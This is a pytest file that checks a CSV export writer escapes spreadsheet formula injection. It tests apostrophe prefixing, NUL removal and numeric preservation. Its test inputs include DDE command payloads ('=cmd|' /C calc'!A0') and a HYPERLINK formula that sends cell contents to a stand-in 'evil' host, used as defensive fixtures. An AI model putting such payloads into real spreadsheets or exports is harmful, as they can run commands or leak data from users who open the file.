"""CSV cells: nothing runs as a formula, the text comes back, figures stay figures."""

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from output.dataset import open_dataset
from output.frames import TableBuffer
from output.schema import tables
from output.writers.csv import safe_text, write_csv_table
from parsers.records import Section
from tests.output.doubles import Case, make_dataset

RUNS = re.compile(r"[=+\-@＝＋－＠\t\r\n]")


def written(texts: list[str | None]) -> list[str]:
    """Return texts as they stand in a CSV file, read back by another reader."""
    table = tables()["sections"]
    buffer = TableBuffer(table)
    rows = [(place, "", text or "") for place, text in enumerate(texts)]
    file = io.BytesIO()
    write_csv_table(file, table, [*buffer.add(rows, ("r0", None, None, True)), *buffer.rest()])
    content = file.getvalue()
    assert content.startswith(b"\xef\xbb\xbf")
    lines = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [line["text"] for line in lines]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u3000=1",
        "\u200b=1",
        "\xa0-1",
        "＝1+1",
        "－1",
        '=HYPERLINK("http://x")',
        "=cmd|' /C calc'!A0",
        "'=1",
        "-",
        "－",
    ],
)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert written([text]) == ["'" + text]


@pytest.mark.parametrize("text", ["政府信息公开", "1-2", "a=b", "—", "——", "/", "无", "3=4", "“=1”", "12"])
def test_other_text_stays(text: str) -> None:
    assert written([text]) == [text]


@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12), max_size=6
    )
)
def test_any_text_is_harmless_and_comes_back(texts: list[str]) -> None:
    found = written(texts)
    for text, cell in zip(texts, found, strict=True):
        assert not RUNS.match(cell.lstrip())
        assert (cell[1:] if cell.startswith("'") else cell) == text


def test_nul_is_taken_out_and_null_stays_null() -> None:
    assert safe_text(pa.array(["a\x00b", None, "\x00=1"])).to_pylist() == ["ab", None, "'=1"]


def test_figures_stay_figures_and_text_stays_text(tmp_path: Path) -> None:
    case = Case(
        agency="=cmd()|'/C calc'!A1局",
        figures={"requests.received.total": -2.0, "fees.admin_fee.amount_wan_yuan": 12.35},
        sections=(Section(1, "@heading", "+text\n=next"),),
    )
    make_dataset(tmp_path, [case])
    folder = open_dataset(tmp_path).folder
    with (folder / "facts.csv").open(encoding="utf-8-sig", newline="") as lines:
        facts = {(line["table"], line["row"], line["column"]): line for line in csv.DictReader(lines)}
    assert facts["requests", "received", "total"]["value"] == "-2"
    assert facts["requests", "received", "total"]["raw"] == "'-2"
    assert facts["fees", "admin_fee", "amount_wan_yuan"]["value"] == "12.35"
    assert facts["requests", "granted", "total"]["value"] == "0"
    assert facts["requests", "granted", "total"]["fetched_at"] == "2025-02-01T08:00:00Z"
    with (folder / "reports.csv").open(encoding="utf-8-sig", newline="") as lines:
        report = next(csv.DictReader(lines))
    assert report["agency"].startswith("'=")
    assert report["published_on"] == "2025-01-20"
    assert report["title"] == ""


def test_no_cell_of_a_hostile_dataset_runs(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
    case = Case(
        agency=evil,
        identity={"title": evil, "document_number": evil, "index_number": evil, "scope_evidence": evil},
        sections=(Section(1, evil, evil),),
        document={
            "list_title": evil,
            "portal_name": evil,
            "aliases": (evil,),
            "warc_file": evil,
            "url": evil,
        },
    )
    make_dataset(tmp_path, [case])
    for path in open_dataset(tmp_path).folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as lines:
            for row in csv.reader(lines):
                assert not any(cell.startswith(("=", "@", "+", "\t", "\r")) for cell in row), path.name
